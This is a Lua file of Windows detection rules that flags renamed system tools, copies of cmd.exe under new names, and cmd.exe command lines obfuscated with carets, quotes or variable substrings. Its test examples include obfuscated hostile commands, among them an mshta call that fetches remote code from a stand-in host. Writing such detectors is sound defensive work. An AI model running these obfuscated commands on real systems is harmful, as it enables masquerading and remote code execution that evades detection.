-- Tools under other names: what they are called in their version information, or the command that copies them, tells.

local lists = require "kaiseki.common.lists"
local asked = require "kaiseki.detect.asked"
local command = require "kaiseki.detect.command"
local lineage = require "kaiseki.detect.lineage"
local places = require "kaiseki.detect.places"
local programs = require "kaiseki.detect.programs"
local known = require "kaiseki.windows.descriptions"

local DESCRIPTIONS, LIST = {}, {}
for description, names in pairs(known.NAMES) do
    DESCRIPTIONS[description], LIST[#LIST + 1] = names, description
end

local function original_of(process)
    local names = DESCRIPTIONS[(process.description or ""):lower()]
    local name = places.program(process.name or "")
    if not names or name == "" or lists.has_word(names, name) then return nil end
    -- "AutoHotkeyU64_UIA", "node18": versions and builds keep the name.
    local first = names:match "%S+"
    return name:sub(1, #first) ~= first and first or nil
end

rule {
    id = "stealth.renamed-tool",
    title = "Tool started under another name",
    severity = "high",
    attack = { "T1036.003" },
    description = "A program whose version information is that of an interpreter, a tool of Windows or of intruders "
        .. "runs under another name: a copy that is to pass those who look for the name.",
    references = { "https://attack.mitre.org/techniques/T1036/003/" },
    false_positives = { "Products that bring a tool along under a name of their own: low where programs are kept." },
    author = "kaiseki",
    match = operation:is { "Process Start", "Load Image" } & process.description:is(LIST),
    key = function(event) return original_of(event.process) end,
    -- What other tools do under another name is told for that.
    excuse = function(finding)
        local process = finding.process
        local runs_code = programs.named(finding.key, "script-host") or programs.named(finding.key, "library-host")
            or programs.named(finding.key, "launcher")
        return (not runs_code or places.in_program_place(process and process.image or "")) and "low" or nil
    end,
    finding = function(finding)
        return { "run-renamed", doer = finding.process, name = finding.key, command = finding.process.command_line }
    end,
    examples = {
        match = {
            { operation = "Process Start", ["process.name"] = "svch.exe",
              ["process.description"] = "Windows PowerShell",
              ["process.image"] = [[C:\Users\x\AppData\Local\Temp\svch.exe]] },
        },
        no_match = {
            { operation = "Process Start", ["process.name"] = "powershell.exe",
              ["process.description"] = "Windows PowerShell",
              ["process.image"] = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]] },
        },
    },
}

local COPIES = { copy = true, xcopy = true, robocopy = true, ["copy-item"] = true, cp = true, cpi = true,
                 mklink = true }

local function is_tool(name)
    local program = places.program(name)
    return programs.named(program, "host") or programs.named(program, "helper") or programs.named(program, "lolbin")
end

-- The tool of Windows and its new name: "copy C:\Windows\System32\cmd.exe C:\Users\Public\a.exe".
local function renamed_copy(each)
    if not COPIES[each.program] then return nil end
    local names = {}
    for at = 2, #each.words do
        local word = each.words[at]:gsub("['\"]", "")
        if not word:find "^[/-]%a" then names[#names + 1] = word end
    end
    if each.program == "mklink" then names = { names[2] or "", names[1] or "" } end
    local source, target = names[1], names[2]
    if not source or not target or not is_tool(source) then return nil end
    local new = places.name(target)
    if not new:find "%.%w+$" or new == places.name(source) then return nil end
    return places.name(source), target
end

local copies = asked.new()

local function first_copy(line)
    for _, each in ipairs(command.all(line)) do
        local tool, target = renamed_copy(each)
        if tool then return tool, target end
    end
    return nil
end

rule {
    id = "stealth.renamed-copy",
    title = "Tool of Windows copied under another name",
    severity = "high",
    attack = { "T1036.003" },
    description = "A command copies a shell, a host of scripts or another tool of Windows to a file of another name.",
    references = { "https://attack.mitre.org/techniques/T1036/003/" },
    false_positives = { "None known." },
    author = "kaiseki",
    match = operation:is "Process Create"
        & child.command_line:contains { "copy", "mklink", "c^", "^o", "cp ", "cpi " }
        & child.command_line:contains { ".exe", ".com", "^" },
    on_event = function(event, case)
        local tool, target = first_copy(event.child.command_line)
        if tool then copies:tell(case, event, { key = tool .. " " .. target }) end
    end,
    on_complete = copies.complete,
    finding = function(finding)
        local tool, target = finding.key:match "^(%S+) (.*)$"
        return { "copy-renamed", name = tool, target = target }
    end,
    examples = {
        match = {
            { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "a.exe",
              ["child.command_line"] =
                  [[cMD /c "C^o^P^y /y C:\WiNdOwS\SySTem32\c^m^d.e^xe C:\Users\x\AppData\Local\Temp\sv^ch.exe"]] },
        },
        no_match = {
            { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "a.exe",
              ["child.command_line"] = [[cmd /c copy C:\Windows\System32\cmd.exe D:\backup\cmd.exe]] },
        },
    },
}

-- Words that cmd.exe puts together: carets and empty quotes within words, letters picked from variables.
local function is_disguised(line)
    local carets = select(2, line:gsub("%w%^%f[%w]", ""))
    local quotes = select(2, line:gsub('%a""%a', ""))
    local letters = select(2, line:gsub("%%[%w_()]+:~%-?%d", ""))
    local delayed = select(2, line:gsub("![%w_]:?[^!%s]*!", ""))
    local folded = line:lower()
    local sets = folded:find "%f[%w]set%s+\"?[%w_]+=" ~= nil
    local joined = sets and folded:find "%%[%w_]+%%%%[%w_]+%%" ~= nil
    return carets >= 4 or quotes >= 3 or letters >= 3 or joined
        or (delayed >= (sets and 1 or 4) and folded:find "/v" ~= nil)
end

local disguises = asked.new()

rule {
    id = "stealth.disguised-command",
    title = "Command line with disguised words",
    severity = "high",
    attack = { "T1027.010" },
    description = "cmd.exe is given words that are whole only once it has read them: cut by carets or empty quotes, or "
        .. "put together from letters of variables.",
    references = { "https://attack.mitre.org/techniques/T1027/010/" },
    false_positives = { "Batch files that escape much." },
    author = "kaiseki",
    match = operation:is "Process Create" & child.command_line:contains { "^", '""', ":~", "!", "%%" },
    on_event = function(event, case)
        local line = event.child.command_line
        local first = command.all(line)[1]
        if not first or first.program ~= "cmd" or not is_disguised(line) then return end
        disguises:tell(case, event, { key = "command" })
    end,
    on_complete = disguises.complete,
    excuse = function(finding) return not lineage.in_tree(finding.process) and "medium" or nil end,
    finding = function(finding)
        return { "run-disguised", command = finding.events[1].child.command_line }
    end,
    examples = {
        match = {
            { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "a.exe",
              ["child.command_line"] = "cmd /c m^s^h^t^a http://x.example/a" },
            { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "a.exe",
              ["child.command_line"] = "cmd /c %comspec:~-7,1%%programdata:~3,1%%public:~5,1% x" },
        },
        no_match = {
            { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "a.exe",
              ["child.command_line"] = [[cmd /c ""C:\Program Files\a\a.bat" "b""]] },
        },
    },
}
